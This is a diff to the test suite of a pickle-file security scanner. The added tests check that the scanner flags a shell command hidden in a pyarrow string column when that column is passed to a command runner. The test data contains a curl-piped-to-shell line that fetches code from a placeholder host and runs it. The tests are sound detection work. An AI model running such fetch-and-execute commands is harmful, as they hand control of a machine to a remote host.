@@ -8,7 +8,7 @@ import pytest
 
 from hostile_parts import COMMAND, SOURCE, call, written
 from picklegate import Verdict, scan_bytes
-from picklegate.training.tree import Name
+from picklegate.training.tree import Call, Name
 
 
 def _score(tree: Any) -> float:
@@ -29,6 +29,31 @@ def test_a_container_of_commands_is_seen_by_whom_it_is_given(maker: str) -> None
     bare = _score(call("package.tools", "run_command", [f"curl http://example.invalid | sh; {COMMAND}"]))
     made = call("builtins", maker, [f"curl http://example.invalid | sh; {COMMAND}"])
     assert _score(call("package.tools", "run_command", made)) >= bare > 0.5
+
+
+def _column(text: bytes) -> Any:
+    parts = [call("pyarrow.lib", "py_buffer", part) for part in (bytes(8), text)]
+    kind = call("pyarrow.lib", "type_for_alias", "string")
+    return call("pyarrow.lib", "_restore_array", (kind, 1, 0, 0, [None, *parts], [], None))
+
+
+_LINE = _column(f"curl http://example.invalid | sh; {COMMAND}".encode())
+
+
+@pytest.mark.parametrize(
+    "taken",
+    [
+        _LINE,
+        call("pyarrow.lib", "Array.tolist", _LINE),
+        call("builtins", "str", _LINE),
+        Call(call("builtins", "getattr", _LINE, "tolist"), ()),
+    ],
+    ids=["itself", "function", "str", "method"],
+)
+def test_a_command_in_a_column_is_seen_by_whom_it_is_given(taken: Any) -> None:
+    """A column is data where pandas keeps it, and a text where something else is given it."""
+    assert scan_bytes(written(call("package.tools", "run_command", taken))).verdict > Verdict.CLEAN
+    assert scan_bytes(written(call("pyarrow.lib", "chunked_array", [_LINE], None))).verdict == Verdict.CLEAN
 
 
 @pytest.mark.parametrize(
